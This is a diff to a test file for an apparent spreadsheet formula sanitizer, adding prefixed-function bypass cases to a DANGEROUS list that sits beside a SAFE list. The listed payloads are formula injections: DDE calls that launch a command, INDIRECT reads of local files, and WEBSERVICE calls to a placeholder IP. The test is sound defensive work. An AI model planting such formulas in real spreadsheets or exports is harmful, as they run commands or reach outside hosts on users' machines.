@@ -31,6 +31,9 @@ DANGEROUS = [
     "msoxl:=cmd|'/c calc'!A0",
     'of:=INDIRECT("\'file:///etc/x.ods\'#$Sheet1.A1")',
     'is-true-formula(WEBSERVICE("http://203.0.113.5/"))',
+    # Not condition keywords: the function name after "cell-content-" is judged like any other.
+    'of:=cell-content-WEBSERVICE("http://203.0.113.5/")', 'of:=cell-content-DDE("cmd";"/c calc";"A1")',
+    'of:=CELL-CONTENT-IS-BETWEEN(WEBSERVICE("http://203.0.113.5/");1)',
 ]
 SAFE = ["of:=SUM([.A1:.A3])", "of:=[.A1]*2", "of:=['集計 2'.B2]+[$Sheet1.$A$1]", 'of:=HYPERLINK("https://x.jp/")',
         'of:=IF([.A1]>0;"a|b#c";"file:")', "of:=INDIRECT(ADDRESS(1;2))", "ooow:<A1>+<A2>", "of:=ISERROR(#N/A)",
